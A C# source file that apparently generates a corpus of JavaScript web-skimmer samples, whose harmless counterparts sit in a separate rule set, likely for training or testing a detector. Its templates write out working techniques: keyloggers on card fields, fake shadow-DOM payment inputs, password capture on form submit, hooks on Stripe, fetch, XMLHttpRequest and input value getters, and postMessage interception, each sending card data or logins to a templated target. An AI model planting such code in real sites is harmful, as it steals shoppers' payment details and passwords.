namespace Weir.Scripts.Corpus.Rules;

/// <summary>Short skimmers that take what somebody enters in another way than by reading a form: keys, parts of pages, passwords, what others pass on. Their harmless twins are in <see cref="EventRules"/>.</summary>
internal static class ThiefRules
{
    public const string Text = """"
        §fieldThief
        3× «wrap‹«thiefTell»«theft»›»
        «wrap‹«theft»«thiefTell»›»
        «wrap‹«thiefTell»«condition‹«theft»›»›»

        §thiefTell
        3× function @tell(°x){«send‹«hideText‹°x›»›‹«target»›»}
        2× function @tell(°x){«send‹encodeURIComponent(°x)›‹«target»›»}
        var @tell=function(°x){«send‹btoa(°x)›‹«target»›»};
        const @tell=(°x)=>{«send‹encodeURIComponent(°x)›‹'«url»'›»};

        §theft
        4× «theftOfKeys»
        3× «theftInPart»
        4× «theftOfLogin»
        3× «theftOfLate»
        3× «theftOfProvider»
        2× «theftOfMessage»
        2× «theftOfValue»
        3× «theftOfFocus»

        §thiefSel
        3× [autocomplete^="cc-"]
        2× [autocomplete="cc-«number¦csc¦exp»"]
        2× [name="«cardField»"]
        2× #«cardField»
        input[name*=«card¦cvv¦cvc¦cc»]
        [name*="«cvvField»"]
        input[name*=card],input[name*=«cvv¦cvc¦exp»]
        [data-«field¦name¦!word»="«number¦cvc¦card»"]
        «paySel» input

        ¶ ---- keys, one by one, in fields of cards ----
        §theftOfKeys
        var @keys='';document.addEventListener('«keydown¦keypress»',function(°e){if(°e.target.matches('«thiefSel»')){@keys+=°e.key;if(@keys.length>«#10-24»){@tell(@keys);@keys='';}}}«,true¦»);
        var @keys={};document.addEventListener('«keyup¦keydown»',function(°e){var °t=°e.target;if(/«card¦cc¦pay»|«cvv¦cvc»/i.test(°t.name«||°t.id¦+°t.id¦»)){@keys[°t.name]=(@keys[°t.name]||'')+°e.key;clearTimeout(@keys._);@keys._=setTimeout(function(){@tell(JSON.stringify(@keys));},«ms»);}});
        document.querySelectorAll('«thiefSel»').forEach(function(°f){var °b='';°f.addEventListener('«keydown¦keyup¦keypress¦beforeinput»',function(°e){°b+=°e.«key¦key||''¦data»;if(°b.length>=«#3-20»)@tell(°f.name+'='+°b);});});
        let @buffer=[];document.querySelector('«paySel»').addEventListener('keydown',°e=>{@buffer.push(°e.key);if(@buffer.length>«#12-30»||°e.key==='Enter'){@tell(@buffer.splice(0).join(''));}});
        document.onkeypress=function(°e){if(document.activeElement&&document.activeElement.matches('«thiefSel»')){@tell(String.fromCharCode(°e.which||°e.keyCode));}};

        ¶ ---- a part of the page that is not the shop's ----
        §theftInPart
        customElements.define('«!word»-«card¦pay¦field¦!word»',class extends HTMLElement{connectedCallback(){this.innerHTML='«thiefInputs»';this.addEventListener('«focusout¦change¦input»',function(){var °q=this.querySelectorAll('input');if(°q[0].value&&°q[1].value){@tell(°q[0].value+'«-¦|¦;»'+°q[1].value);}});}});
        var @root=document.querySelector('«paySel»').attachShadow({mode:'«closed¦open»'});@root.innerHTML='«thiefInputs»';@root.addEventListener('«input¦change»',()=>{const °v=[...@root.querySelectorAll('input')].map(°i=>°i.value);if(°v.join('').length>«#15-20»)@tell(°v.join('«|¦,»'));});
        class @Field extends HTMLElement{constructor(){super();const °s=this.attachShadow({mode:'closed'});°s.innerHTML='«thiefInputs»<button>«Pay¦Continue¦Place order»</button>';°s.querySelector('button').onclick=()=>@tell([].map.call(°s.querySelectorAll('input'),°i=>°i.value).join('/'));}}customElements.define('«!word»-«!word»',@Field);

        §thiefInputs
        <input name="«cardField»"><input name="«cvvField»">
        <input placeholder="Card number"><input placeholder="«CVC¦CVV¦Security code»">
        <label>Card<input name=«pan¦num¦cc»></label><label>CVV<input name=«cvv¦cvc»></label>

        ¶ ---- passwords ----
        §theftOfLogin
        document.querySelectorAll('input[type=«"password"¦password»]').forEach(function(°p){°p.form.addEventListener('submit',function(){var °u=°p.form.querySelector('«[type=email],[name=login]¦input[type=text]¦[name*=user],[name*=mail]»');@tell((°u?°u.value:'')+':'+°p.value);}«,true¦»);});
        document.addEventListener('submit',function(°e){var °p=°e.target.querySelector('[type=password]');if(°p&&°p.value){@tell([«hostHere»,(°e.target.querySelector('[type=email],[type=text]')||{}).value,°p.value].join('«|¦\t»'));}},true);
        document.querySelector('«#login¦#login-form¦form.login¦#customer-login»').addEventListener('submit',°e=>{const °d=new FormData(°e.target);@tell(°d.get('«username¦login[username]¦email»')+':'+°d.get('«password¦login[password]¦pass»'));});
        var @pw=document.getElementById('«password¦pass¦pwd¦login-password»');@pw&&@pw.addEventListener('«blur¦change»',function(){@tell(document.getElementById('«username¦email¦login»').value+'\n'+@pw.value);});
        $('form').has(':password').on('submit',function(){@tell($(this).serialize());});

        ¶ ---- fields that are made later ----
        §theftOfLate
        new MutationObserver(function(){document.querySelectorAll('«thiefSel»').forEach(function(°i){if(°i.dataset.«!letters‹2›»)return;°i.dataset.«!letters‹2›»=1;°i.addEventListener('«blur¦change¦input»',function(){if(°i.value)@tell(°i.name+'='+°i.value);});});}).observe(document.«body¦documentElement»,{childList:true,subtree:true});
        new MutationObserver(°m=>°m.forEach(°r=>°r.addedNodes.forEach(°n=>{if(°n.querySelectorAll)for(const °f of °n.querySelectorAll('«thiefSel»'))°f.onchange=()=>@tell(°f.value);}))).observe(document,{childList:true,subtree:true});
        var @wait=setInterval(function(){var °f=document.querySelector('«thiefSel»');if(°f){clearInterval(@wait);°f.form.addEventListener('«change¦submit»',function(){@tell([].map.call(°f.form.elements,function(°e){return °e.value;}).join('|'));});}},«ms»);

        ¶ ---- what the page gives to a payment service, or sends itself ----
        §theftOfProvider
        var @own=window.«Stripe¦Square¦Mollie¦Paymill»;window.«Stripe¦Square¦Mollie¦Paymill»=function(°k){var °s=@own.apply(this,arguments),°o=°s.createToken;°s.createToken=function(°c,°d){@tell(JSON.stringify([°c,°d]));return °o.apply(°s,arguments);};return °s;};
        (function(°p){var °o=°p.send;°p.send=function(°b){try{if(/«cc_|card|cvv¦card¦payment¦"number"»/.test(°b))@tell(String(°b));}catch(°e){}return °o.apply(this,arguments);};})(XMLHttpRequest.prototype);
        var @ask=window.fetch;window.fetch=function(°u,°o){if(°o&&°o.body&&/«pay|order|checkout¦token¦card»/.test(String(°u))){@tell(String(°o.body));}return @ask.apply(this,arguments);};
        var @json=JSON.stringify;JSON.stringify=function(°o){var °r=@json.apply(this,arguments);if(/"(«cc_number|cvv¦card|cvc¦number»)"/.test(°r)){@tell(°r);}return °r;};
        var @submit=HTMLFormElement.prototype.submit;HTMLFormElement.prototype.submit=function(){@tell(new URLSearchParams(new FormData(this)).toString());return @submit.call(this);};

        §theftOfMessage
        window.addEventListener('message',function(°m){var °d=°m.data;if(°d&&(°d.card||°d.«cardNumber¦number¦pan»||°d.«cvv¦cvc»)){@tell(JSON.stringify(°d));}});
        addEventListener('message',({data:°d})=>{try{const °p=typeof °d==='string'?JSON.parse(°d):°d;if(°p.«payload¦fields¦value»)@tell(JSON.stringify(°p));}catch{}});

        §theftOfValue
        var @was=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');Object.defineProperty(HTMLInputElement.prototype,'value',{get:function(){var °v=@was.get.call(this);if(°v&&/«card¦cc»|cv[cv]|exp/i.test(this.name))@tell(this.name+':'+°v);return °v;},set:@was.set});
        Object.defineProperty(document.querySelector('«thiefSel»'),'value',{configurable:true,get(){const °v=this.getAttribute('value');@tell(°v);return °v;}});

        §theftOfFocus
        document.addEventListener('«focusout¦change»',function(°e){var °f=°e.target;if(°f.value&&/^\d{13,19}$/.test(°f.value.replace(/\s/g,''))){@tell(°f.value+'|'+[].map.call(°f.form.elements,function(°x){return °x.value;}).join('|'));}}«,true¦»);
        document.addEventListener('focusout',({target:{name:°n,value:°v,form:°f}})=>{if(°f&&°v&&/«card¦cc¦cv»/.test(°n)){@tell(JSON.stringify([...°f.elements].map(({name:°k,value:°w})=>[°k,°w])));}});
        document.querySelector('«buttonSel»').addEventListener('«mouseenter¦mouseover¦pointerdown¦touchstart»',function(){@tell([].map.call(document.querySelectorAll('«thiefSel»'),function(°i){return °i.value;}).join('|'));});
        """";
}
